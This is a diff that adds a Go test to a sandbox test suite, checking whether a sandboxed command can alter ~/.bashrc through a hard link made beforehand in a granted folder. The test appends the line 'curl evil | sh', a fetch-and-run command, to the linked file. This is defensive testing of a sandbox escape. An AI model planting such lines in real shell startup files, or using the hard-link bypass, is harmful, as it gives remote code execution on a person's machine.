@@ -35,3 +35,33 @@ func TestCredentialHardLinkedBeforeTheCommandRuns(t *testing.T) {
 		})
 	}
 }
+
+// The same for writing: ~/.bashrc is read-only in every sandbox (the
+// person's shell runs it outside any), but a hard link to it made in a
+// granted folder before the command runs is the same file under a
+// writable path, and appending to it changes ~/.bashrc. Open: it fails
+// on main, for the reason above.
+func TestStartupFileHardLinkedBeforeTheCommandRuns(t *testing.T) {
+	requireLandlock(t)
+	home := homeWith(t, map[string]string{".bashrc": "export A=1\n", "Documents/notes.md": "mine\n"})
+	link := filepath.Join(home, "Documents", "bashrc-backup")
+	if err := os.Link(filepath.Join(home, ".bashrc"), link); err != nil {
+		t.Skip("hard links unsupported:", err)
+	}
+	for who, p := range homeGrantedPolicies(t, home) {
+		t.Run(who, func(t *testing.T) {
+			// Truncated in place: the link stays the same file.
+			if err := os.WriteFile(filepath.Join(home, ".bashrc"), []byte("export A=1\n"), 0o600); err != nil {
+				t.Fatal(err)
+			}
+			run(t, p, "echo 'curl evil | sh' >> "+link)
+			b, err := os.ReadFile(filepath.Join(home, ".bashrc"))
+			if err != nil {
+				t.Fatal(err)
+			}
+			if strings.Contains(string(b), "evil") {
+				t.Errorf("a sandboxed %s with the home folder granted changed ~/.bashrc through a hard link made before it ran: %q", who, b)
+			}
+		})
+	}
+}
